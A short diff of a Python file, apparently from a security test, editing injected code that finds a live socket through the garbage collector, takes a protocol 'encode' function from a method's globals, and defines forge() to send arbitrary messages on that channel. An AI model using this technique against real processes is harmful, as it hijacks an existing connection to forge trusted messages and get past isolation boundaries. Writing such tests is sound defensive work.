@@ -27,10 +27,7 @@ CHANNEL = (
     + """
 import gc, json, struct
 channel = next(o for o in gc.get_objects() if type(o).__name__ == "socket" and o.fileno() >= 0)
-encode = sys._getframe
-for o in gc.get_objects():
-    if callable(o) and getattr(o, "__name__", "") == "encode" and "wire" in getattr(o, "__module__", ""):
-        encode = o
+encode = type(side).reply.__globals__["encode"]
 def forge(value):
     channel.sendall(encode(value))
 print("channel", channel.fileno())
